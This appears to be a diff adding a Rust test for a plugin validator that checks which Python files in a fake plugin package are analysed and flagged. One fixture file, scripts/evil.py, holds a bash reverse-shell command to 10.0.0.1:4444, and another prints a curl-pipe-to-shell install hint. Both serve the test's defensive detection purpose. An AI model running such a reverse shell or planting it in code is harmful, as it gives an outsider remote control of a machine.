@@ -244,6 +244,82 @@ fn oversized_trees_are_a_caution() {
     );
 }
 
+/// Only the Python that can run is analysed (`static_py::reach`), in the shapes real
+/// plugins have (hermes-lcm's maintainer scripts load the package by hand through
+/// `sys.modules`): a script nothing names is not an override of a running Hermes, while the
+/// same write in a module `__init__.py` loads by a literal `import_module`, or in the
+/// dashboard's API module, is; a payload in a script nothing names is still found, by the
+/// byte-level patterns, with the analysis's precision; `-v` says how much was parsed.
+#[test]
+fn only_python_that_can_run_is_analysed() {
+    let dir = tempfile::tempdir().unwrap();
+    let pkg = dir.path().join("reach");
+    let write = |rel: &str, body: &str| {
+        let path = pkg.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, body).unwrap();
+    };
+    write(
+        "plugin.yaml",
+        "name: reach\nversion: 1.0.0\ndescription: d\n",
+    );
+    write(
+        "__init__.py",
+        "import importlib\n\n\ndef register(ctx):\n    importlib.import_module('helpers')\n",
+    );
+    let rebinding = "import sys\nsys.modules['agent'] = None\n";
+    write("helpers.py", rebinding);
+    write("dashboard/plugin_api.py", rebinding);
+    write("scripts/backfill.py", rebinding);
+    write("tests/test_reach.py", rebinding);
+    write(
+        "scripts/setup_hint.py",
+        "print('install uv: curl -LsSf https://astral.sh/uv/install.sh | sh')\n",
+    );
+    write(
+        "scripts/evil.py",
+        "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
+    );
+    let (exit, report) = validate_json(&[&pkg], &[]);
+    let p = only_package(&report);
+    assert_eq!(exit, 1, "{p:#}");
+    let mut found: Vec<(String, String)> = p["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            let file = f["file"].as_str().unwrap();
+            let rel = file.rsplit_once("reach/").map_or(file, |(_, r)| r);
+            (f["check"].as_str().unwrap().to_string(), rel.to_string())
+        })
+        .collect();
+    found.sort();
+    assert_eq!(
+        found,
+        [
+            ("no-core-override", "dashboard/plugin_api.py"),
+            ("no-core-override", "helpers.py"),
+            ("security-scan", "scripts/evil.py"),
+        ]
+        .map(|(c, f)| (c.to_string(), f.to_string())),
+        "{p:#}"
+    );
+    assert_eq!(p["security"]["verdict"], "dangerous");
+    let out = run(&[
+        "-v",
+        "validate",
+        "--no-cache",
+        "--format",
+        "json",
+        &pkg.display().to_string(),
+    ]);
+    assert!(
+        out.stderr.contains("5 of 7 Python files parsed"),
+        "{}",
+        out.stderr
+    );
+}
+
 #[test]
 fn validate_without_probe_never_runs_plugin_code() {
     let dir = tempfile::tempdir().unwrap();
